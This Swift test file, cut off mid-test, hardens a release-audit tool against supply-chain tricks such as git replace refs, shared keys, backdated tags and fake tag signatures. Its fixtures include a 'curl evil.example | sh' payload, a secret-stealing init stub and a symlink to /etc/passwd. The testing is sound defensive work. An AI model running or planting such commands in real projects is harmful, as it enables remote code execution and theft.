// The adversarial review's false PASSes (issue "Trust"), each reproduced through the built binary
// on a real repository and asserted fixed: never exit 0 where the release must fail, no file changed
// by a failed run. Numbers are the review's.
//
// | #  | attack                                                         | now
// |----|----------------------------------------------------------------|--------------------------------------------------
// | 1  | `git replace` of a file in the release (or the tag object)     | repository.safety FAILED; record refuses (exit 2)
// | 2  | one key for every role (`--trusted-key`); CI key signs a build | usage error (64); build.source FAILED; shared key exit 2
// | 3  | a report gated under a weaker policy                           | audit: policy-changed fails; verify --policy FAILED
// | 4  | `cp reports/v1.0.0.json reports/v2.0.0.json`                   | verify --release v2.0.0: report.release FAILED
// | 5  | `record build --rev v1.0.0` with another commit checked out    | exit 2, nothing written; --no-worktree makes no claim
// | 7  | a never-gated release tagged with a 2001 date, `audit --since`  | selected by version: missing-report, exit 1
// | 8  | a NUL byte hides a newer FAILED run; a junk line blocks gates  | whole note read: FAILED; junk skipped with a warning
// | 9  | a stale e2e pass, or an e2e pass made after the build          | evidence.freshness FAILED, naming the suite
// | 10 | `version-bump` lets a new `cmd/server/version.go` in           | source.match FAILED (added files need added: true)
// | 11 | `tag.signed: true` met by a pasted block of garbage            | release.tag FAILED: signature not verified
// | 13 | a report made in a fork counts in the original's audit         | report-other-repository fails; verify FAILED
// | 14 | the gate's report stored in the notes breaks later gates       | skipped: the gate still PASSES
// | 15 | `--force` with an unwritable `--vsa` replaces the report       | exit 2, the old report byte for byte
import AuditCore
import Foundation
#if canImport(Glibc)
import Glibc
#endif
import GitFacts
import TestSupport
import Testing

@Suite struct TrustReviewTests {
    /// Keys in their roles through the policy; tests fresher than 7 days.
    static let policy = """
        version: 1
        source:
          match: exact-commit
        trusted_keys:
          tester:
            keys: [keys/ci.pub]
          builder:
            keys: [keys/release.pub]
          auditor:
            keys: [keys/auditor.pub]
        test:
          max_age: 7d

        """

    func honestRelease(policy: String = TrustReviewTests.policy) throws -> (HardeningFixture, commit: String) {
        let fixture = try HardeningFixture()
        try fixture.write("policy.yml", policy)
        let commit = try fixture.releasedRepository()
        return (fixture, commit)
    }

    /// Runs the gate, requires `status`, and returns the verified report.
    @discardableResult
    func gate(_ fixture: HardeningFixture, _ name: String, release: String = "v1.0.0", policy: String = "policy.yml",
              test: [String]? = ["evidence/test.json"], build: [String]? = ["evidence/build.json"], extra: [String] = [],
              status: Int32, sourceLocation: SourceLocation = #_sourceLocation) throws -> AuditReport {
        var arguments = ["gate", "--repo", "widget", "--release", release, "--policy", policy, "--key", "keys/auditor.key",
                         "--out", "reports/\(name).json", "--format", "json"] + extra
        if let test, !test.isEmpty { arguments += ["--test-evidence"] + test }
        if let build, !build.isEmpty { arguments += ["--build-evidence"] + build }
        let result = try fixture.run(arguments)
        #expect(result.status == status, "\(name): exit \(result.status): \(result.stderr) \(result.stdout.prefix(3000))",
                sourceLocation: sourceLocation)
        return try fixture.report("reports/\(name).json")
    }

    func check(_ report: AuditReport, _ id: String) -> CheckResult? { report.checks.first { $0.id == id } }

    func expectCheck(_ report: AuditReport, _ id: String, _ status: CheckStatus, _ words: String...,
                     sourceLocation: SourceLocation = #_sourceLocation) {
        let found = check(report, id)
        #expect(found?.status == status, "\(id): \(found.map { "\($0.status) \($0.reason)" } ?? "missing")", sourceLocation: sourceLocation)
        for word in words {
            #expect(found?.reason.contains(word) == true, "\(id): '\(word)' not in: \(found?.reason ?? "")", sourceLocation: sourceLocation)
        }
    }

    /// A test-result record about `commit`, signed by `key`, with the given time, suites and result.
    @discardableResult
    func signedTestRecord(_ fixture: HardeningFixture, commit: String, recordedAt: Date, suites: [String] = [],
                          result: TestOutcome = .passed, key: SigningKey? = nil, to name: String) throws -> String {
        let record = TestRecord(commit: try ObjectID(hex: commit), tree: try ObjectID(hex: try fixture.git.revParse("\(commit)^{tree}")),
                                repository: HardeningFixture.identity, result: result, suites: suites, recordedAt: recordedAt,
                                ci: CIContext(provider: "local"), toolVersion: ToolInfo.version)
        let envelope = try DSSEEnvelope.sign(payload: TestResultStatement.make(record: record).jsonData(), keys: [key ?? fixture.tester])
        return try fixture.write(name, envelope.jsonData())
    }

    /// Writes `bytes` as the whole release-audit note of `commit`, with the git CLI.
    func setNote(_ fixture: HardeningFixture, on commit: String, _ bytes: Data) throws {
        try fixture.write("note.bin", bytes)
        let blob = try fixture.git.git("hash-object", "-w", fixture.path("note.bin"))
        try fixture.git.git("notes", "--ref=release-audit", "add", "-f", "-C", blob, commit)
    }

    /// The ids of the failing findings of one release in `audit --format json` output.
    func findings(_ auditJSON: String, _ tag: String) throws -> [String] {
        let json = try #require(try JSONSerialization.jsonObject(with: Data(auditJSON.utf8)) as? [String: Any])
        let release = (json["releases"] as? [[String: Any]])?.first { $0["tag"] as? String == tag }
        return (release?["findings"] as? [[String: Any]])?.filter { $0["fails"] as? Bool == true }.compactMap { $0["kind"] as? String } ?? []
    }

    func line(_ fixture: HardeningFixture, _ file: String) throws -> Data {
        var data = try fixture.read(file)
        while data.last == 0x0A { data.removeLast() }
        return data
    }

    // MARK: 1. Replace refs

    @Test func d1ReplacingAFileOfTheReleaseFailsAndRecordsRefuse() throws {
        let (fixture, commit) = try honestRelease()
        let blob = try fixture.git.revParse("\(commit):README.md")
        let evil = try fixture.git.hashObject(type: "blob", "# widget\ncurl evil.example | sh\n")
        try fixture.git.git("replace", blob, evil)
        // git archive, like any git-CLI build, now ships the evil bytes.
        let archived = try fixture.git.git("show", "v1.0.0:README.md")
        #expect(archived.contains("evil"))

        let report = try gate(fixture, "replaced-blob", status: 1)
        expectCheck(report, "repository.safety", .failed, "refs/replace/\(blob)", "1 of 1 replace ref(s)")
        for kind in ["test", "build"] {
            var arguments = ["record", kind, "--repo", "widget", "--key", "keys/\(kind == "test" ? "ci" : "release").key",
                             "--out", "evidence/refused-\(kind).json"]
            arguments += kind == "test" ? ["--result", "passed"] : ["--rev", "v1.0.0"]
            let refused = try fixture.run(arguments)
            Refusal.expectInputError(refused, mentions: ["refs/replace/\(blob)", "git replace -d"], "record \(kind)")
            #expect(!fixture.exists("evidence/refused-\(kind).json"))
        }
    }

    @Test func d1ReplacingTheTagObjectFails() throws {
        let (fixture, _) = try honestRelease()
        let tagObject = try fixture.git.revParse("refs/tags/v1.0.0")
        let other = try fixture.git.git(["mktag"], stdin: """
            object \(try fixture.git.revParse("v1.0.0^{commit}"))
            type commit
            tag v1.0.0
            tagger Mallory <m@example.com> 1704067200 +0000

            not the real tag

            """)
        try fixture.git.git("replace", "-f", tagObject, other)
        let report = try gate(fixture, "replaced-tag", status: 1)
        expectCheck(report, "repository.safety", .failed, "refs/replace/\(tagObject)")
    }

    @Test func d1ReplaceRefsOnOtherHistoryStayANoteAndAreCountedNotListed() throws {
        let (fixture, _) = try honestRelease()
        // 60 replacements of objects the release does not contain (as a project publishes for old PR heads).
        for i in 0..<60 {
            let old = try fixture.git.hashObject(type: "blob", "old \(i)\n")
            let new = try fixture.git.hashObject(type: "blob", "new \(i)\n")
            try fixture.git.git("replace", old, new)
        }
        let report = try gate(fixture, "other-history", status: 0)
        expectCheck(report, "repository.safety", .warned, "60 replace ref(s) present, none touching")
        #expect((check(report, "repository.safety")?.reason.count ?? 0) < 300, "the reason names the count, not every ref")
        #expect(report.verdict == .passed)
    }

    // MARK: 2. Roles

    @Test func d2AKeyWithoutARoleIsAUsageErrorAndTheReadmeExampleFailsACIKeyBuild() throws {
        let (fixture, _) = try honestRelease(policy: "version: 1\n")
        let bare = try fixture.run(["gate", "--repo", "widget", "--release", "v1.0.0", "--key", "keys/auditor.key",
                                    "--trusted-key", "keys/ci.pub", "keys/release.pub", "--out", "reports/x.json"])
        Refusal.expectUsageError(bare, mentions: ["--tester-key", "--builder-key"], "gate --trusted-key")
        #expect(!fixture.exists("reports/x.json"))

        // A build record signed with the CI (tester) key, as the README's own example trusts them.
        try fixture.recordBuild("v1.0.0", out: "evidence/build-by-ci.json", key: "keys/ci.key")
        let roles = ["--tester-key", "keys/ci.pub", "--builder-key", "keys/release.pub"]
        let report = try gate(fixture, "ci-built", policy: "exact-commit", build: ["evidence/build-by-ci.json"], extra: roles, status: 1)
        expectCheck(report, "evidence.signatures", .failed, "no signature verifies with a trusted key")
        expectCheck(report, "build.source", .failed)
        // The honest pair passes, and the report says which key signed what, per role.
        let honest = try gate(fixture, "roles", policy: "exact-commit", extra: roles, status: 0)
        let facts = check(honest, "evidence.signatures")?.facts ?? [:]
        #expect(facts["tester"] == String(fixture.tester.publicKey.keyID.prefix(12)))
        #expect(facts["builder"] == String(fixture.builder.publicKey.keyID.prefix(12)))
    }

    @Test func d2OneKeyInTwoRolesIsRefusedUnlessThePolicySaysSo() throws {
        let (fixture, _) = try honestRelease(policy: "version: 1\n")
        for (label, extra) in [
            ("tester and builder", ["--tester-key", "keys/ci.pub", "--builder-key", "keys/ci.pub", "keys/release.pub"]),
            ("report signer as tester", ["--tester-key", "keys/ci.pub", "keys/auditor.pub", "--builder-key", "keys/release.pub"]),
        ] {
            let result = try fixture.run(["gate", "--repo", "widget", "--release", "v1.0.0", "--key", "keys/auditor.key",
                                          "--test-evidence", "evidence/test.json", "--build-evidence", "evidence/build.json",
                                          "--out", "reports/shared.json"] + extra)
            Refusal.expectInputError(result, mentions: ["allow_shared_keys"], label)
            #expect(!fixture.exists("reports/shared.json"))
        }
        try fixture.write("shared.yml", "version: 1\ntrusted_keys:\n  allow_shared_keys: true\n")
        try gate(fixture, "shared-ok", policy: "shared.yml",
                 extra: ["--tester-key", "keys/ci.pub", "--builder-key", "keys/ci.pub", "keys/release.pub"], status: 0)
    }

    // MARK: 3. Reports made under a weaker policy

    @Test func d3AReportUnderAWeakerPolicyDoesNotCount() throws {
        let fixture = try HardeningFixture()
        let weak = Self.policy.replacingOccurrences(of: "test:\n  max_age: 7d", with: "test:\n  required: false")
        try fixture.write("weak.yml", weak)
        try fixture.write("policy.yml", Self.policy)
        try fixture.git.commit("Add the widget", files: ["README.md": "# widget\n"])
        try fixture.git.tag("v1.0.0", message: "1.0.0")
        try fixture.recordBuild("v1.0.0", out: "evidence/build.json")
        // Never tested, gated under the weak policy: PASSED.
        try gate(fixture, "v1.0.0", policy: "weak.yml", test: nil, status: 0)

        let audit = try fixture.run(["audit", "--repo", "widget", "--policy", "policy.yml", "--reports", "reports", "--format", "json"])
        #expect(audit.status == 1, "\(audit.stderr)")
        #expect(try findings(audit.stdout, "v1.0.0") == ["policy-changed"])
        let verifyStrict = try fixture.run(["verify", "reports/v1.0.0.json", "--release", "v1.0.0", "--policy", "policy.yml"])
        #expect(verifyStrict.status == 1, "\(verifyStrict.stdout)")
        #expect(verifyStrict.stdout.contains("FAILED  report.policy"))
        #expect(try fixture.run(["verify", "reports/v1.0.0.json", "--release", "v1.0.0", "--policy", "weak.yml"]).status == 0)

        // Accepted on purpose, by digest: then it counts.
        let digest = sha256Hex(try fixture.read("weak.yml"))
        try fixture.write("accepting.yml", Self.policy + "reports:\n  accepted_policies: [\"\(digest)\"]\n")
        let accepted = try fixture.run(["audit", "--repo", "widget", "--policy", "accepting.yml", "--reports", "reports", "--format", "json"])
        #expect(try findings(accepted.stdout, "v1.0.0").isEmpty, "\(accepted.stdout)")
        #expect(try fixture.run(["verify", "reports/v1.0.0.json", "--release", "v1.0.0", "--policy", "accepting.yml"]).status == 0)
    }

    // MARK: 4. A report bound to its release

    @Test func d4ACopiedReportDoesNotVouchForAnotherRelease() throws {
        let (fixture, _) = try honestRelease()
        try gate(fixture, "v1.0.0", status: 0)
        try fixture.git.commit("Untested", files: ["src/evil.c": "int main(){}\n"])
        try fixture.git.tag("v2.0.0", message: "2.0.0")
        try fixture.write("reports/v2.0.0.json", try fixture.read("reports/v1.0.0.json"))

        let copied = try fixture.run(["verify", "reports/v2.0.0.json", "--release", "v2.0.0", "--auditor-key", "keys/auditor.pub",
                                      "--repo", "widget"])
        #expect(copied.status == 1)
        #expect(copied.stdout.contains("FAILED  report.release") && copied.stdout.contains("the report is about v1.0.0, not v2.0.0"))
        let unnamed = try fixture.run(["verify", "reports/v2.0.0.json", "--auditor-key", "keys/auditor.pub", "--repo", "widget"])
        Refusal.expectUsageError(unnamed, mentions: ["--release"], "verify without --release")
        // The audit reads what the report says, not its file name: v2.0.0 has no report.
        let audit = try fixture.run(["audit", "--repo", "widget", "--policy", "policy.yml", "--reports", "reports", "--format", "json"])
        #expect(audit.status == 1)
        let releases = try #require((try JSONSerialization.jsonObject(with: Data(audit.stdout.utf8)) as? [String: Any])?["releases"] as? [[String: Any]])
        let v2 = releases.first { $0["tag"] as? String == "v2.0.0" }
        #expect((v2?["findings"] as? [[String: Any]])?.compactMap { $0["kind"] as? String }.contains("missing-report") == true)
    }

    // MARK: 5. Records of a commit that is not checked out

    @Test func d5RecordingACommitThatIsNotCheckedOutIsRefused() throws {
        let (fixture, _) = try honestRelease()
        // HEAD moves to an untested commit; the artifact is built from it, the record names v1.0.0.
        try fixture.git.commit("Untested", files: ["src/evil.c": "int main(){}\n"])
        for (kind, arguments) in [("build", ["record", "build", "--rev", "v1.0.0", "--key", "keys/release.key"]),
                                  ("test", ["record", "test", "--rev", "v1.0.0", "--result", "passed", "--key", "keys/ci.key"])] {
            let result = try fixture.run(arguments + ["--repo", "widget", "--out", "evidence/other-\(kind).json"])
            Refusal.expectInputError(result, mentions: ["v1.0.0", "checked out", "--no-worktree"], "record \(kind)")
            #expect(!fixture.exists("evidence/other-\(kind).json"))
        }
        // Told the work tree is not the build's, it records the commit with no clean-tree claim...
        try fixture.recordBuild("v1.0.0", out: "evidence/elsewhere.json", extra: ["--no-worktree"])
        let payload = try JSONSerialization.jsonObject(with: try fixture.envelope("evidence/elsewhere.json").payload) as? [String: Any]
        let context = (payload?["predicate"] as? [String: Any])?["releaseaudit_context"] as? [String: Any]
        #expect(context != nil && context?["dirtyPaths"] == nil)
        // ...which a policy asking for a clean build tree does not accept.
        let report = try gate(fixture, "no-claim", build: ["evidence/elsewhere.json"], status: 1)
        expectCheck(report, "worktree.clean", .failed, "no clean-work-tree claim")
    }

    // MARK: 7. --since by version, never by the tagger's date

    @Test func d7ABackdatedReleaseIsNotHiddenBySince() throws {
        let (fixture, _) = try honestRelease()
        try gate(fixture, "v1.0.0", status: 0)
        try fixture.git.commit("Never gated", files: ["src/evil.c": "int main(){}\n"])
        fixture.git.clock = 978_307_200  // 2001-01-01
        try fixture.git.tag("v2.0.0", message: "2.0.0")
        let result = try fixture.run(["audit", "--repo", "widget", "--policy", "policy.yml", "--reports", "reports",
                                      "--since", "v1.0.0", "--format", "json"])
        #expect(result.status == 1, "\(result.stderr)")
        let releases = try #require((try JSONSerialization.jsonObject(with: Data(result.stdout.utf8)) as? [String: Any])?["releases"] as? [[String: Any]])
        #expect(Set(releases.compactMap { $0["tag"] as? String }) == ["v1.0.0", "v2.0.0"])
        let v2 = releases.first { $0["tag"] as? String == "v2.0.0" }
        #expect(v2?["verdict"] as? String == "FAILED")
    }

    // MARK: 8. Notes: the whole note, and junk that never blocks

    @Test func d8ANulByteCannotHideANewerFailedRun() throws {
        let (fixture, commit) = try honestRelease()
        let now = Date()
        try signedTestRecord(fixture, commit: commit, recordedAt: now.addingTimeInterval(-600), to: "evidence/pass.json")
        try signedTestRecord(fixture, commit: commit, recordedAt: now.addingTimeInterval(-300), result: .failed, to: "evidence/fail.json")
        try fixture.recordBuild("v1.0.0", out: "evidence/build-now.json")
        var note = try line(fixture, "evidence/pass.json") + Data("\n".utf8)
        note += Data([0]) + Data("\n".utf8)
        note += try line(fixture, "evidence/fail.json") + Data("\n".utf8)
        note += try line(fixture, "evidence/build-now.json") + Data("\n".utf8)
        try setNote(fixture, on: commit, note)
        // git shows every line.
        #expect(try fixture.git.git("notes", "--ref=release-audit", "show", commit).contains("\"payload\""))

        let report = try gate(fixture, "nul", test: nil, build: nil, status: 1)
        expectCheck(report, "test.result", .failed, "FAILED")
        expectCheck(report, "evidence.signatures", .warned, "skipped 1 unreadable note line(s)")
    }

    @Test func d8AJunkLineIsSkippedWithAWarningAndNeverCounts() throws {
        let (fixture, commit) = try honestRelease()
        var note = Data("this is not an envelope\n".utf8)
        note += try line(fixture, "evidence/test.json") + Data("\n{\"payload\": 1}\n".utf8)
        note += try line(fixture, "evidence/build.json") + Data("\n".utf8)
        try setNote(fixture, on: commit, note)
        let report = try gate(fixture, "junk", test: nil, build: nil, status: 0)
        expectCheck(report, "evidence.signatures", .warned, "skipped 2 unreadable note line(s)")
        // Junk alone is no evidence.
        try setNote(fixture, on: commit, Data("junk\n".utf8))
        let alone = try gate(fixture, "junk-alone", test: nil, build: nil, status: 1)
        expectCheck(alone, "evidence.signatures", .failed, "no evidence found")
    }

    @Test func d8ThePresetsLetAnOldPassGoStale() throws {
        let (fixture, commit) = try honestRelease()
        try signedTestRecord(fixture, commit: commit, recordedAt: Date().addingTimeInterval(-40 * 86_400), to: "evidence/old.json")
        for preset in Policy.presetNames {
            let report = try gate(fixture, "old-\(preset)", policy: preset, test: ["evidence/old.json"],
                                  extra: HardeningFixture.trustEvidence, status: 1)
            expectCheck(report, "evidence.freshness", .failed, "40d0h old; the policy allows 30d0h")
        }
    }

    // MARK: 9. Freshness per suite, and before the build

    @Test func d9EveryRequiredSuiteNeedsItsOwnFreshPassRecordedBeforeTheBuild() throws {
        let fixture = try HardeningFixture()
        try fixture.write("policy.yml", Self.policy.replacingOccurrences(of: "test:\n  max_age: 7d",
                                                                         with: "test:\n  max_age: 1d\n  required_suites: [unit, e2e]"))
        let commit = try fixture.git.commit("Add the widget", files: ["README.md": "# widget\n"])
        try fixture.git.tag("v1.0.0", message: "1.0.0")
        let now = Date()
        try signedTestRecord(fixture, commit: commit, recordedAt: now.addingTimeInterval(-792 * 86_400), suites: ["e2e"], to: "evidence/e2e-old.json")
        try signedTestRecord(fixture, commit: commit, recordedAt: now.addingTimeInterval(-600), suites: ["unit"], to: "evidence/unit.json")
        try fixture.recordBuild("v1.0.0", out: "evidence/build.json")
        let stale = try gate(fixture, "stale-e2e", test: ["evidence/unit.json", "evidence/e2e-old.json"], status: 1)
        expectCheck(stale, "evidence.freshness", .failed, "suite e2e is 792d")
        #expect(check(stale, "evidence.freshness")?.facts?["record.e2e"] == sha256Hex(try fixture.read("evidence/e2e-old.json")))

        // An e2e pass recorded after the build does not vouch for it.
        try signedTestRecord(fixture, commit: commit, recordedAt: now.addingTimeInterval(60), suites: ["e2e"], to: "evidence/e2e-late.json")
        let late = try gate(fixture, "late-e2e", test: ["evidence/unit.json", "evidence/e2e-late.json"], status: 1)
        expectCheck(late, "evidence.freshness", .failed, "suite e2e", "after the build")

        // Both fresh and before the build: PASSED, and the report names the record used for each suite.
        try signedTestRecord(fixture, commit: commit, recordedAt: now.addingTimeInterval(-300), suites: ["e2e"], to: "evidence/e2e.json")
        let good = try gate(fixture, "fresh", test: ["evidence/unit.json", "evidence/e2e.json"], status: 0)
        let facts = check(good, "test.result")?.facts ?? [:]
        #expect(facts["record.unit"] == sha256Hex(try fixture.read("evidence/unit.json")))
        #expect(facts["record.e2e"] == sha256Hex(try fixture.read("evidence/e2e.json")))
    }

    // MARK: 10. version-bump admits no new code

    @Test func d10AnAddedVersionFileIsNotAVersionBump() throws {
        let fixture = try HardeningFixture()
        try fixture.git.commit("Add the widget", files: ["VERSION": "1.0.0\n", "cmd/server/main.go": "package main\n"])
        try fixture.recordTest(out: "evidence/test.json")
        try fixture.git.commit("Release 1.0.1", files: ["VERSION": "1.0.1\n",
                                                       "cmd/server/version.go": "package main\nfunc init(){ stealSecrets() }\n"])
        try fixture.git.tag("v1.0.1", message: "1.0.1")
        try fixture.recordBuild("v1.0.1", out: "evidence/build.json")
        let report = try gate(fixture, "added-code", release: "v1.0.1", policy: "version-bump", extra: HardeningFixture.trustEvidence, status: 1)
        expectCheck(report, "source.match", .failed, "cmd/server/version.go (added)")
        // Even a policy naming the glob allows only modifications of matching files, until an entry says added: true.
        try fixture.write("glob.yml", "version: 1\nsource:\n  match: allowed-diff\n  allowed_paths: [VERSION, \"**/version.go\"]\n")
        let glob = try gate(fixture, "added-glob", release: "v1.0.1", policy: "glob.yml", extra: HardeningFixture.trustEvidence, status: 1)
        expectCheck(glob, "source.match", .failed, "cmd/server/version.go (added)", "added: true")
        try fixture.write("added.yml", "version: 1\nsource:\n  match: allowed-diff\n  allowed_paths: [VERSION, {path: cmd/server/version.go, added: true}]\n")
        try gate(fixture, "added-ok", release: "v1.0.1", policy: "added.yml", extra: HardeningFixture.trustEvidence, status: 0)

        // A symbolic link is never a version file, even where a new file may appear.
        try FileManager.default.createSymbolicLink(atPath: fixture.path("widget/docs-link"), withDestinationPath: "/etc/passwd")
        try fixture.git.git("add", "docs-link")
        try fixture.git.git("commit", "-q", "-m", "link")
        try fixture.git.tag("v1.0.2", message: "1.0.2")
        try fixture.recordBuild("v1.0.2", out: "evidence/build-link.json")
        try fixture.write("link.yml", "version: 1\nsource:\n  match: allowed-diff\n  allowed_paths: [VERSION, {path: cmd/server/version.go, added: true}, {path: docs-link, added: true}]\n")
        let link = try gate(fixture, "added-link", release: "v1.0.2", policy: "link.yml", build: ["evidence/build-link.json"],
                            extra: HardeningFixture.trustEvidence, status: 1)
        expectCheck(link, "source.match", .failed, "docs-link (added)")
    }

    // MARK: 11. tag.signed is never met by an unverified block

    @Test func d11APastedSignatureBlockDoesNotMakeATagSigned() throws {
        let fixture = try HardeningFixture()
        try fixture.write("policy.yml", Self.policy + "tag:\n  signed: true\n")
        try fixture.git.commit("Add the widget", files: ["README.md": "# widget\n"])
        try fixture.write("message.txt", "1.0.0\n-----BEGIN PGP SIGNATURE-----\n\nZ2FyYmFnZQ==\n-----END PGP SIGNATURE-----\n")
        try fixture.git.git("tag", "-a", "v1.0.0", "-F", fixture.path("message.txt"))
        let inspect = try fixture.succeed(["inspect", "v1.0.0", "--repo", "widget", "--json"])
        #expect(inspect.stdout.contains("\"signed\" : true") || inspect.stdout.contains("\"signed\":true"))
        try fixture.recordTest(out: "evidence/test.json")
        try fixture.recordBuild("v1.0.0", out: "evidence/build.json")
        let report = try gate(fixture, "garbage-signature", status: 1)
        expectCheck(report, "release.tag", .failed, "lists no tag.signers")
        let audit = try fixture.run(["audit", "--repo", "widget", "--policy", "policy.yml", "--reports", "reports", "--format", "json"])
        #expect(audit.status == 1)
        #expect(try findings(audit.stdout, "v1.0.0").contains("unverified-tag-signature"))
    }

    // MARK: 13. A report about another repository

    @Test func d13AReportMadeInAForkDoesNotCount() throws {
        let (fixture, _) = try honestRelease()
        try fixture.git.git("clone", "-q", fixture.git.path, fixture.path("fork"))
        let fork = GitRepo(existing: fixture.root.appendingPathComponent("fork"))
        try fork.git("remote", "set-url", "origin", "https://github.com/mallory/widget.git")
        try fixture.succeed(["record", "test", "--repo", "fork", "--result", "passed", "--key", "keys/ci.key", "--out", "evidence/fork-test.json"])
        try fixture.succeed(["record", "build", "--repo", "fork", "--rev", "v1.0.0", "--key", "keys/release.key", "--out", "evidence/fork-build.json"])
        let forked = try fixture.run(["gate", "--repo", "fork", "--release", "v1.0.0", "--policy", "policy.yml", "--key", "keys/auditor.key",
                                      "--test-evidence", "evidence/fork-test.json", "--build-evidence", "evidence/fork-build.json",
                                      "--out", "fork-reports/v1.0.0.json"])
        #expect(forked.status == 0, "\(forked.stderr) \(forked.stdout)")
        let audit = try fixture.run(["audit", "--repo", "widget", "--policy", "policy.yml", "--reports", "fork-reports", "--format", "json"])
        #expect(audit.status == 1)
        #expect(try findings(audit.stdout, "v1.0.0") == ["report-other-repository"])
        let verify = try fixture.run(["verify", "fork-reports/v1.0.0.json", "--release", "v1.0.0", "--auditor-key", "keys/auditor.pub",
                                      "--repo", "widget"])
        #expect(verify.status == 1)
        #expect(verify.stdout.contains("FAILED  report.release") && verify.stdout.contains("mallory"))
    }

    // MARK: 14. The gate's own report in the notes

    @Test func d14AReportKeptInTheNotesDoesNotBreakLaterGates() throws {
        let (fixture, commit) = try honestRelease()
        try fixture.succeed(["record", "test", "--repo", "widget", "--result", "passed", "--key", "keys/ci.key", "--notes"])
        try fixture.succeed(["record", "build", "--repo", "widget", "--rev", "v1.0.0", "--key", "keys/release.key", "--notes"])
        try gate(fixture, "first", test: nil, build: nil, status: 0)
        let reportLine = String(decoding: try line(fixture, "reports/first.json"), as: UTF8.self)
        try fixture.git.git("notes", "--ref=release-audit", "append", "-m", reportLine, commit)
        let again = try gate(fixture, "second", test: nil, build: nil, status: 0)
        expectCheck(again, "evidence.signatures", .passed)
    }

    // MARK: 15. A failed run changes no file

    @Test func d15AnUnwritableVSALeavesTheOldReportAsItWas() throws {
        let (fixture, _) = try honestRelease()
        try gate(fixture, "kept", status: 0)
        let before = try fixture.read("reports/kept.json")
        // /proc takes no new files, even for root; the location check cannot tell in advance.
        let result = try fixture.run(["gate", "--repo", "widget", "--release", "v1.0.0", "--policy", "policy.yml", "--key", "keys/auditor.key",
                                      "--test-evidence", "evidence/test.json", "--build-evidence", "evidence/build.json",
                                      "--out", "reports/kept.json", "--force", "--vsa", "/proc/release-audit-vsa.json"])
        #expect(result.status == 2, "\(result.stderr)")
        #expect(try fixture.read("reports/kept.json") == before)
        #expect(fixture.leftoverTemporaryFiles().isEmpty)
    }

    // MARK: The second review (a red team on the built binary)

    @Test func r1AReplaceRefOrALookAlikeBranchPushedAfterTheAuditFailsVerifyAndAudit() throws {
        let (fixture, commit) = try honestRelease()
        try gate(fixture, "v1.0.0", status: 0)
        let verify = ["verify", "reports/v1.0.0.json", "--release", "v1.0.0", "--policy", "policy.yml", "--repo", "widget"]
        #expect(try fixture.run(verify).status == 0)
        let evil = try fixture.git.commit("Evil", files: ["README.md": "evil\n"])
        try fixture.git.git("checkout", "-q", commit)
        try fixture.git.git("replace", commit, evil)
        let replaced = try fixture.run(verify)
        #expect(replaced.status == 1 && replaced.stdout.contains("FAILED  release.unaltered"), "\(replaced.stdout)")
        let audit = ["audit", "--repo", "widget", "--policy", "policy.yml", "--reports", "reports", "--format", "json"]
        #expect(try findings(try fixture.run(audit).stdout, "v1.0.0").contains("release-altered"))
        try fixture.git.git("replace", "-d", commit)
        #expect(try fixture.run(verify).status == 0)
        // A branch of the tag's name: git checkout v1.0.0 would take it.
        try fixture.git.git("branch", "v1.0.0", evil)
        let shadowed = try fixture.run(verify)
        #expect(shadowed.status == 1 && shadowed.stdout.contains("refs/heads/v1.0.0"), "\(shadowed.stdout)")
        #expect(try findings(try fixture.run(audit).stdout, "v1.0.0").contains("release-altered"))
        let gated = try gate(fixture, "shadowed", status: 1)
        expectCheck(gated, "release.tag", .failed, "refs/heads/v1.0.0")
    }

    @Test func r2ABranchUnderAnUnconfiguredRemoteIsNotAReleaseBranch() throws {
        let (fixture, _) = try honestRelease(policy: Self.policy.replacingOccurrences(of: "match: exact-commit", with: "match: exact-commit\n  branches: [main]"))
        try fixture.git.git("branch", "-m", "topic")
        let head = try fixture.git.revParse("HEAD")
        try fixture.git.git("update-ref", "refs/remotes/fork/main", head)
        let report = try gate(fixture, "fork-main", status: 1)
        expectCheck(report, "source.protected-branch", .failed)
        try fixture.git.git("update-ref", "refs/remotes/origin/main", head)
        let origin = try gate(fixture, "origin-main", status: 0)
        expectCheck(origin, "source.protected-branch", .passed, "refs/remotes/origin/main")
    }

    @Test func r3EvidenceSignedByKeysTheReaderDoesNotTrustFailsVerifyAndAudit() throws {
        let fixture = try HardeningFixture()
        try fixture.write("policy.yml", Self.policy)
        try fixture.git.commit("Add the widget", files: ["README.md": "# widget\n"])
        try fixture.git.tag("v1.0.0", message: "1.0.0")
        // Keys an attacker made, trusted at the gate through flags (keys read from the work tree, say).
        let mallory = (SigningKey.generate(), SigningKey.generate())
        try fixture.saveKey(mallory.0, as: "mallory-ci")
        try fixture.saveKey(mallory.1, as: "mallory-release")
        try fixture.recordTest(out: "evidence/test.json", key: "keys/mallory-ci.key")
        try fixture.recordBuild("v1.0.0", out: "evidence/build.json", key: "keys/mallory-release.key")
        try fixture.write("bare.yml", "version: 1\n")
        try gate(fixture, "v1.0.0", policy: "bare.yml",
                 extra: ["--tester-key", "keys/mallory-ci.pub", "--builder-key", "keys/mallory-release.pub"], status: 0)
        let verify = try fixture.run(["verify", "reports/v1.0.0.json", "--release", "v1.0.0", "--policy", "bare.yml",
                                      "--auditor-key", "keys/auditor.pub", "--tester-key", "keys/ci.pub", "--builder-key", "keys/release.pub"])
        #expect(verify.status == 1 && verify.stdout.contains("FAILED  report.signers"), "\(verify.stdout)")
        let unchecked = try fixture.run(["verify", "reports/v1.0.0.json", "--release", "v1.0.0", "--policy", "bare.yml",
                                         "--auditor-key", "keys/auditor.pub"])
        #expect(unchecked.status == 1, "a policy without tester or builder keys cannot vouch for the evidence: \(unchecked.stdout)")
        let audit = try fixture.run(["audit", "--repo", "widget", "--policy", "bare.yml", "--reports", "reports", "--format", "json",
                                     "--auditor-key", "keys/auditor.pub", "--tester-key", "keys/ci.pub", "--builder-key", "keys/release.pub"])
        #expect(try findings(audit.stdout, "v1.0.0").contains("untrusted-evidence"))
        #expect(audit.status == 1)
    }

    @Test func r4AFIFOOrAPipeInTheReportsDirectoryDoesNotHang() throws {
        let (fixture, _) = try honestRelease()
        try gate(fixture, "v1.0.0", status: 0)
        try FileManager.default.createSymbolicLink(atPath: fixture.path("reports/index.json"), withDestinationPath: "/proc/self/fd/1")
        #expect(mkfifo(fixture.path("reports/fifo.json"), 0o644) == 0)
        let result = try fixture.run(["audit", "--repo", "widget", "--policy", "policy.yml", "--reports", "reports", "--format", "json"])
        #expect(result.status == 0, "\(result.stderr)")
        #expect(result.stderr.contains("not a regular file"))
    }

    @Test func r5HostileNamesAreEscapedInTextMarkdownAndAnnotations() throws {
        let fixture = try HardeningFixture()
        try fixture.write("policy.yml", Self.policy)
